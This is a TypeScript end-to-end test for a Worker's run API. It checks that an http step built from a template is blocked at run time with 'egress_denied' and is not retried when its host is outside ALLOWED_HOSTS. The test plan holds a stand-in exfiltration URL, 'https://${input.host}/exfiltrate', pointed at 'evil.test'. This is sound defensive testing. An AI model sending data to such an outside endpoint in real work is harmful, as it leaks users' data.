/**
 * ALLOWED_HOSTS at run time, end to end: a URL built by a template passes submission (it is
 * not known yet) and is checked when the step calls it. The Worker needs ALLOWED_HOSTS in its
 * own bindings for this, which only a booted Worker can have (the workers project shares one env).
 */
import { describe, expect, it } from "vitest";
import { e2eClient } from "./client.ts";
import { bootForFile } from "./worker.ts";

const e2e = bootForFile((url) => ({ ALLOWED_HOSTS: new URL(url).hostname }));

const { post, getJson, waitForEnd } = e2eClient(() => e2e.worker.url);

describe("e2e: ALLOWED_HOSTS at run time", () => {
  it("a templated URL that resolves outside the allowlist fails its step egress_denied, not retried", async () => {
    const plan = {
      input: { host: "evil.test" },
      config: { retry: { maxRetries: 3, baseDelayMs: 1, maxDelayMs: 1 } },
      steps: [{ id: "out", tool: "http", params: { url: "https://${input.host}/exfiltrate" } }],
    };
    const res = await post("/v1/runs", plan);
    expect(res.status).toBe(202);
    const status = await waitForEnd(res.headers.get("location")!);
    expect(status.status).toBe("failed");
    const step = await getJson(`/v1/runs/${status.runId}/steps/out`);
    expect(step.error).toMatchObject({
      category: "egress_denied",
      message: expect.stringContaining("evil.test"),
    });
    expect(step.attempts).toBe(1);
  });
});
